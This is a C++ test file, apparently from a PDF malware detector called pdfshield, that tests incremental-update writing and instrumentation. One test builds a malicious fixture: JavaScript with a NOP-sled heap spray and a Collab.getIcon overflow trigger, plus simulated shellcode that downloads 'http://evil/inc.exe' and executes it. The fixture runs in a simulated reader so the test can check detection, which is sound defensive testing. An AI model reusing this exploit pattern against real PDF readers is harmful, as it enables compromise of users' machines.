@@ -1,0 +1,183 @@
+// Tests for incremental-update serialization (PDF §3.4.5): the fast
+// instrumentation path that appends only changed objects to the original
+// bytes instead of rewriting the whole document.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "pdf/crypto.hpp"
+#include "pdf/parser.hpp"
+#include "pdf/writer.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+TEST(IncrementalWriter, AppendsOnlyChangedObjects) {
+  sp::Rng rng(1);
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(3, 600);
+  builder.set_open_action_js("var original = 1;");
+  const sp::Bytes base = builder.build();
+
+  pd::Document doc = pd::parse_document(base);
+  // Change one object: overwrite the action's /JS.
+  int action_num = 0;
+  for (auto& [num, obj] : doc.objects()) {
+    if ((obj.is_dict() || obj.is_stream()) &&
+        obj.dict_or_stream_dict().contains("JS")) {
+      obj.dict_or_stream_dict().set("JS", pd::Object::string("var patched = 2;"));
+      action_num = num;
+    }
+  }
+  ASSERT_GT(action_num, 0);
+
+  const sp::Bytes updated =
+      pd::write_incremental_update(base, doc, {action_num});
+  // Base bytes are a strict prefix.
+  ASSERT_GT(updated.size(), base.size());
+  EXPECT_TRUE(std::equal(base.begin(), base.end(), updated.begin()));
+  // The delta is small (one object + xref + trailer).
+  EXPECT_LT(updated.size() - base.size(), 600u);
+
+  // Re-parsing sees the patched definition (later revision wins).
+  pd::Document again = pd::parse_document(updated);
+  const pd::Object* action = again.object({action_num, 0});
+  ASSERT_NE(action, nullptr);
+  EXPECT_EQ(sp::to_string(
+                again.resolve(action->dict_or_stream_dict().at("JS")).as_string().data),
+            "var patched = 2;");
+  // /Prev chains to the base revision's xref.
+  EXPECT_TRUE(again.trailer().contains("Prev"));
+}
+
+TEST(IncrementalWriter, ContiguousRunsShareSubsections) {
+  pd::Document doc;
+  for (int i = 1; i <= 6; ++i) doc.set_object({i, 0}, pd::Object(i));
+  const sp::Bytes base = pd::write_document(doc);
+  const sp::Bytes updated =
+      pd::write_incremental_update(base, doc, {2, 3, 4, 6});
+  const std::string text = sp::to_string(updated);
+  // One subsection "2 3" and one "6 1" in the appended xref.
+  const std::size_t tail = base.size();
+  EXPECT_NE(text.find("2 3\n", tail), std::string::npos);
+  EXPECT_NE(text.find("6 1\n", tail), std::string::npos);
+}
+
+TEST(IncrementalPipeline, InstrumentsViaAppendAndStillDetects) {
+  sy::Kernel kernel;
+  sp::Rng rng(2);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEndOptions options;
+  options.incremental_update = true;
+  co::FrontEnd frontend(rng, detector.detector_id(), options);
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/inc.exe", "c:/inc.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/inc.exe"}});
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(6, 900);  // sizeable base the fast path must not copy...
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+  const sp::Bytes base = builder.build();
+
+  co::FrontEndResult fe = frontend.process(base);
+  ASSERT_TRUE(fe.ok);
+  EXPECT_TRUE(fe.incremental_used);
+  // Prefix property: original bytes untouched.
+  ASSERT_GE(fe.output.size(), base.size());
+  EXPECT_TRUE(std::equal(base.begin(), base.end(), fe.output.begin()));
+
+  detector.register_document(fe.record.key, "inc.pdf", fe.features);
+  reader.open_document(fe.output, "inc.pdf");
+  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
+  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/inc.exe"));
+}
+
+TEST(IncrementalPipeline, BenignSemanticsPreserved) {
+  sp::Rng rng(3);
+  co::FrontEndOptions options;
+  options.incremental_update = true;
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
+
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(2, 300);
+  builder.set_open_action_js("var checksum = 11 * 3;");
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.ok);
+  EXPECT_TRUE(fe.incremental_used);
+
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  int soap = 0;
+  reader.set_soap_endpoint("http://127.0.0.1:8777/",
+                           [&](const pdfshield::js::Value&) {
+                             ++soap;
+                             return pdfshield::js::Value();
+                           });
+  auto r = reader.open_document(fe.output, "benign-inc.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+  EXPECT_EQ(soap, 2);  // enter + exit: the wrapper runs from the update
+}
+
+TEST(IncrementalPipeline, EncryptedInputFallsBackToFullRewrite) {
+  sp::Rng rng(4);
+  co::FrontEndOptions options;
+  options.incremental_update = true;
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
+
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var x = 1;");
+  pd::encrypt_document(builder.document(), "pw", rng);
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.ok);
+  EXPECT_TRUE(fe.password_removed);
+  EXPECT_FALSE(fe.incremental_used)
+      << "appending plaintext to a ciphertext base would be incoherent";
+  pd::Document out = pd::parse_document(fe.output);
+  EXPECT_FALSE(pd::is_encrypted(out));
+}
+
+TEST(IncrementalPipeline, JsFreeDocumentFallsBackToFullRewrite) {
+  sp::Rng rng(5);
+  co::FrontEndOptions options;
+  options.incremental_update = true;
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(2, 300);
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.ok);
+  EXPECT_FALSE(fe.incremental_used);  // nothing changed, nothing to append
+}
+
+TEST(IncrementalPipeline, DeinstrumentationStillWorksOnUpdates) {
+  sp::Rng rng(6);
+  co::FrontEndOptions options;
+  options.incremental_update = true;
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var keepme = 'original-body';");
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.incremental_used);
+
+  pd::Document doc = pd::parse_document(fe.output);
+  co::Instrumenter::deinstrument(doc, fe.record);
+  const auto sites = co::analyze_js_chains(doc).sites;
+  ASSERT_EQ(sites.size(), 1u);
+  EXPECT_EQ(sites[0].source, "var keepme = 'original-body';");
+}
